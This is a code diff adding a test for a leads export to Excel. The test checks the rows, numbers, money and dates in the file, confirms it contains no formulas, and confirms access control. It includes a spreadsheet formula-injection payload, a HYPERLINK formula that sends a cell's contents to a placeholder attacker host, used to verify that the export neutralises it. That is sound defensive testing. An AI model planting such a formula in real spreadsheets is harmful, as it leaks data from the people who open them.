@@ -1,4 +1,6 @@
+import { sheetParts, sheetPath } from 'domain/imports';
 import { blankLead, fieldsOfStatus, type Lead, leadFields } from 'domain/leads';
+import { strFromU8, unzipSync } from 'fflate';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { insertLeads } from '#leads';
 import { people } from '#platform/testing/cast.ts';
@@ -69,6 +71,28 @@ describe('the export', () => {
     expect(text).toContain(`"'=HYPERLINK(""http://evil.example?""&A2,""x"")"`);
     expect(text).not.toMatch(/(^|,)"?[=+@\t]/m);
     expect(text).toContain('Mia');
+  });
+
+  it('[D69] comes as an Excel file too: the same rows, numbers, money and days as such, and no formula', async () => {
+    const answer = await fetch(`${server.url}/api/export/leads.xlsx?view=all`, {
+      headers: { cookie: `washboard_session=${ada.token}` },
+    });
+    expect(answer.headers.get('content-disposition')).toMatch(/filename="leads-[\d-]+\.xlsx"$/);
+    const parts = unzipSync(new Uint8Array(await answer.arrayBuffer()));
+    expect(Object.keys(parts).sort()).toEqual([...Object.keys(sheetParts), sheetPath].sort());
+    const sheet = strFromU8(parts[sheetPath] ?? new Uint8Array());
+    expect(sheet.match(/<row>/g)).toHaveLength(1203);
+    const [row = ''] = sheet.split('<row>').filter((one) => one.includes('odd@example.com'));
+    const text = (said: string) => `<is><t xml:space="preserve">${said}</t></is>`;
+    expect(row).toContain(text('=HYPERLINK("http://evil.example?"&amp;A2,"x")'));
+    expect(row).toContain(text('+1 206 555 6995'));
+    expect(row).toContain('<c><v>12</v></c>');
+    expect(row).toContain('<c s="4"><v>1200</v></c>');
+    // 2031-02-03, and a moment by the office's clock: 2027-01-01 19:04.
+    expect(row).toContain('<c s="2"><v>47882</v></c>');
+    expect(row).toMatch(/<c s="3"><v>46388\.794/);
+    expect(sheet).not.toMatch(/<f[ >]/);
+    expect((await (await server.signIn(people.max)).raw('/api/export/leads.xlsx')).status).toBe(403);
   });
 
   it('of invoices says in its name which books it is for', async () => {
